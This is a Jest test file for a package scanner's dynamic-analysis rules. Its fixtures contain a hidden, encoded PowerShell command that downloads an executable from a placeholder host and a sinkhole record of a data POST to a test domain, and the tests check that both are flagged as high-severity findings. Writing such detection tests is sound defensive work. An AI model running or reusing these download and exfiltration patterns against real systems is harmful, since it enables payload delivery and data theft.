import { dynamicFindings, DYNAMIC_RULES } from './index.js';

const ctx = { home: '/work/home', work: '/work', tmp: '/tmp' };

describe('dynamicFindings', () => {
  it('turns what the Windows shims were asked to run and what the sinkhole took into findings', () => {
    const found = dynamicFindings({
      traces: new Map(),
      windowsCommands: [{ phase: 'build', program: 'powershell', argv: ['-WindowStyle', 'Hidden', '-EncodedCommand', 'SQBuAHYAbwBrAGUA'], pid: 7, line: 1, decoded: 'Invoke-WebRequest -Uri "https://x.invalid/a.exe"' }],
      sinkhole: [{ phase: 'import', line: 2, time: 1, kind: 'tcp', address: '198.51.100.7', port: 80, bytesSent: 80, http: { method: 'POST', host: 'collect.pyti-test.invalid', path: '/u', headers: [] } }],
    }, ctx);
    expect(found.map((f) => [f.rule, f.severity, f.phase])).toEqual(expect.arrayContaining([
      ['windows-powershell-payload', 'high', 'build'],
      ['sinkhole-contact', 'high', 'import'],
    ]));
    expect(found.find((f) => f.rule === 'windows-powershell-payload')!.evidence[0]).toMatchObject({ file: 'windows-shims.jsonl', line: 1 });
  });

  it('keeps what made-up calls in the execute phase do at low, except a canary leaving the process', () => {
    const found = dynamicFindings({
      traces: new Map(),
      sinkhole: [{ phase: 'execute', line: 1, time: 1, kind: 'tcp', address: '198.51.100.7', port: 443, bytesSent: 300, sni: 'upload.pyti-test.invalid' }],
    }, ctx);
    expect(found.map((f) => [f.rule, f.severity])).toEqual([['sinkhole-contact', 'low']]);
    expect(found[0]!.title).toMatch(/execute phase: at most low/);
  });

  it('declares the rules it runs', () => {
    const ids = DYNAMIC_RULES.map((r) => r.id);
    expect(ids).toEqual(expect.arrayContaining(['sinkhole-contact', 'windows-powershell-payload', 'windows-command', 'canary-leak']));
    expect(new Set(ids).size).toBe(ids.length);
  });
});
